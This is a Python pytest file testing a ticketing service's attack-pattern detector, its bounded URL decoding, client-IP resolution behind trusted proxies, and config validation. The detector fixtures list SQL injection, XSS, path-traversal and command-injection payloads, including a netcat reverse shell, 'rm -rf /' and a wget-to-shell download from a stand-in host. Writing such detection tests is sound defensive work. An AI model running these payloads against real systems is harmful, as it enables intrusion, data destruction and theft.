"""Signatures, decoding, client IPs and the configuration sections, without a request."""

from __future__ import annotations

from ipaddress import ip_network
from urllib.parse import quote

import pytest

from tests.harness.app import create_test_app
from ticketing.config import ConfigError
from ticketing.security.client_ip import client_ip
from ticketing.security.patterns import PatternClass, decodings, detect
from ticketing.security.settings import check_sections

SQL, XSS, TRAV, CMD, NUL = (
    PatternClass.SQL_INJECTION,
    PatternClass.XSS,
    PatternClass.PATH_TRAVERSAL,
    PatternClass.COMMAND_INJECTION,
    PatternClass.NULL_BYTE,
)

KNOWN_ATTACKS = {
    SQL: [
        "' OR 1=1 --",
        "admin' --",
        "admin'#",
        "1' AND '1'='1",
        "1 OR 1=1",
        "1; DROP TABLE users",
        "1'; DROP TABLE users; --",
        "' UNION SELECT NULL,NULL--",
        "1 UNION ALL SELECT username, password FROM users",
        "' AND SLEEP(5)--",
        "1' AND BENCHMARK(1000000,MD5(1))#",
        "'; WAITFOR DELAY '0:0:5'--",
        "1;SELECT pg_sleep(5)",
        "' OR 'x'='x",
        "') OR ('a'='a",
        "1' ORDER BY 3--",
        "' AND 1=CONVERT(int,@@version)--",
        "' UNION/**/SELECT/**/1,2,3--",
        "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
        "' or true--",
        "x' AND extractvalue(1,concat(0x7e,version()))--",
        "'+OR+1=1--",
    ],
    XSS: [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert('x')>",
        "javascript:alert(document.cookie)",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=javascript:alert(1)>",
        '"><script>alert(1)</script>',
        "<ScRiPt>alert(1)</sCrIpT>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        '<object data="data:text/html;base64,PHNjcmlwdD4=">',
        "'-alert(1)-'",
    ],
    TRAV: [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "/etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fetc/shadow",
        "..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "file:///etc/passwd",
        "/proc/self/environ",
    ],
    CMD: [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "$(whoami)",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "| bash -i",
        "; rm -rf /",
        "wget http://x.example/s.sh | sh",
        "a;id;",
    ],
    NUL: ["report.pdf\x00.txt", "report.pdf%00.txt", "name%2500"],
}


@pytest.mark.parametrize(
    "pattern_class,payload",
    [(cls, payload) for cls, payloads in KNOWN_ATTACKS.items() for payload in payloads],
)
def test_known_attacks_are_detected_in_free_text(pattern_class, payload):
    found = {f.pattern_class for f in detect(payload, "json")}
    assert pattern_class in found, (payload, found)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM transactions WHERE id = 5",
        "please drop the old webhook",
        "amount < 0 and capacity > 10",
        "it's 'north' or 'south'",
        "we keep it in ../uploads",
        "the field `id` is missing",
        "| id | amount |",
        "time.sleep(5) between retries",
        "100% of units",
        "C:\\Users\\anna\\exports",
        "I tried 'reset' -- it did not help",
        "the <iframe> on our intranet",
        "JavaScript: the SDK throws",
        "50%25 discount code",
    ],
)
def test_ordinary_text_is_not_detected(text):
    assert detect(text, "json") == []


def test_any_dot_dot_segment_counts_in_the_url_but_not_in_a_body():
    assert [f.pattern_class for f in detect("/files/../secret", "path")] == [TRAV]
    assert [f.pattern_class for f in detect("../report.csv", "query")] == [TRAV]
    assert detect("see ../report.csv", "json") == []


def test_decoding_is_repeated_but_bounded():
    payload = "<script>"
    encoded = payload
    for _ in range(3):
        encoded = quote(encoded, safe="")
    rounds = list(decodings(encoded, max_rounds=3))
    assert [r for r, _ in rounds] == [0, 1, 2, 3] and rounds[-1][1] == payload
    assert detect(encoded, "query", max_rounds=3)[0].decode_rounds == 3
    # A fourth layer of encoding is past the bound: nothing decodes far enough.
    assert detect(quote(encoded, safe=""), "query", max_rounds=3) == []
    # %uXXXX (JavaScript escape()) decodes too.
    assert [f.pattern_class for f in detect("%u003Cscript%u003E", "query")] == [XSS]


def test_findings_report_where_and_what():
    [finding] = detect("x%27%20OR%20%271%27%3D%271", "query", "search")
    assert finding.as_dict() == {
        "class": "sql_injection",
        "part": "query",
        "field": "search",
        "excerpt": "x' OR '1'='1",
        "decode_rounds": 1,
    }


def test_only_a_prefix_of_huge_values_is_scanned():
    assert detect("a" * 200 + "<script>", "json", max_chars=100) == []
    assert detect("a" * 50 + "<script>", "json", max_chars=100) != []


def test_short_values_seen_before_get_the_same_answer_for_their_own_part():
    """Short values (field names, paths, headers) are remembered; the answer still
    depends on the part, the field and the decoding bound of each call."""
    value = "../ledger.csv"
    for _ in range(2):
        assert [(f.part, f.field) for f in detect(value, "query", "file")] == [("query", "file")]
        assert detect(value, "json", "file") == []
        assert [(f.part, f.field) for f in detect(value, "path")] == [("path", None)]
    encoded = quote(quote(quote("<script>", safe=""), safe=""), safe="")
    assert detect(encoded, "header", "Referer", max_rounds=2) == []
    assert detect(encoded, "header", "Referer", max_rounds=3)[0].field == "Referer"
    long_text = "x" * 300 + " <script>"  # past the remembered length: examined each time
    assert detect(long_text, "json")[0].excerpt.endswith("<script>")


# ------------------------------------------------------------------ client IP

TRUSTED = [ip_network("10.0.0.0/8"), ip_network("2001:db8::/32")]


@pytest.mark.parametrize(
    "remote,xff,expected",
    [
        ("203.0.113.9", None, "203.0.113.9"),  # no proxy
        ("203.0.113.9", "1.2.3.4", "203.0.113.9"),  # untrusted peer: header ignored
        ("10.0.0.5", "198.51.100.7", "198.51.100.7"),  # one trusted proxy
        ("10.0.0.5", "1.2.3.4, 198.51.100.7", "198.51.100.7"),  # spoofed left part ignored
        ("10.0.0.5", "198.51.100.7, 10.0.0.9", "198.51.100.7"),  # two trusted hops
        ("10.0.0.5", "10.0.0.8, 10.0.0.9", "10.0.0.8"),  # all trusted: left-most
        ("10.0.0.5", "garbage, 10.0.0.9", "10.0.0.9"),  # garbage ends the walk
        ("10.0.0.5", "", "10.0.0.5"),
        ("2001:db8::1", "[2001:db8::2]:443, 198.51.100.7:5123", "198.51.100.7"),
        ("::ffff:10.0.0.5", "198.51.100.7", "198.51.100.7"),  # IPv4-mapped peer
    ],
)
def test_client_ip_walks_forwarded_for_only_through_trusted_proxies(remote, xff, expected):
    assert client_ip(remote, xff, TRUSTED) == expected


def test_without_trusted_proxies_the_header_is_ignored():
    assert client_ip("10.0.0.5", "198.51.100.7", []) == "10.0.0.5"


# ------------------------------------------------------------------ configuration


def test_defaults_need_no_configuration():
    security, limits = check_sections({}, redis_url=None)
    assert limits.limits == {
        "login": "5/minute",
        "withdrawal": "3/minute",
        "api_call": "100/minute",
        "ticket_create": "20/minute",
    }
    assert security.failed_auth.threshold == 5
    assert security.block == {TRAV, NUL}


def test_every_problem_is_reported_with_its_location():
    with pytest.raises(ConfigError) as info:
        check_sections(
            {
                "security": {
                    "trusted_proxies": ["10.0.0.0/8", "proxy.local"],
                    "block": ["sql_injection", "bogus"],
                    "failed_auth": {"threshold": 0},
                    "scan": {"headerz": []},
                },
                "ratelimits": {
                    "limits": {"login": "often"},
                    "strategy": "random",
                    "routes": {"unknown_action": ["POST /x"], "ticket_create": ["/api/v1/tickets"]},
                },
            }
        )
    assert sorted(info.value.problems) == sorted(
        [
            "security.scan.headerz: unknown setting",
            "security.trusted_proxies[1]: must be an IP address or network such as 10.0.0.0/8 "
            "(got 'proxy.local')",
            "security.block[1]: must be one of sql_injection, xss, path_traversal, "
            "command_injection, null_byte (got 'bogus')",
            "security.failed_auth.threshold: must be an integer > 0 (got 0)",
            "ratelimits.strategy: must be one of fixed-window, moving-window, "
            "sliding-window-counter (got 'random')",
            'ratelimits.limits.login: must be a rate such as "5/minute" or "100 per hour" '
            "(got 'often')",
            "ratelimits.routes.unknown_action: no limit is configured for action 'unknown_action'",
            'ratelimits.routes.ticket_create[0]: must look like "POST /api/v1/tickets" '
            "(got '/api/v1/tickets')",
        ]
    )


def test_an_invalid_section_stops_the_ticket_service(tmp_path):

    with pytest.raises(ConfigError, match="ratelimits.limits.api_call"):
        create_test_app(
            {
                "TESTING": True,
                "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path}/t.db",
                "TICKETING": {"ratelimits": {"limits": {"api_call": "lots"}}},
            },
            migrate=False,
        )
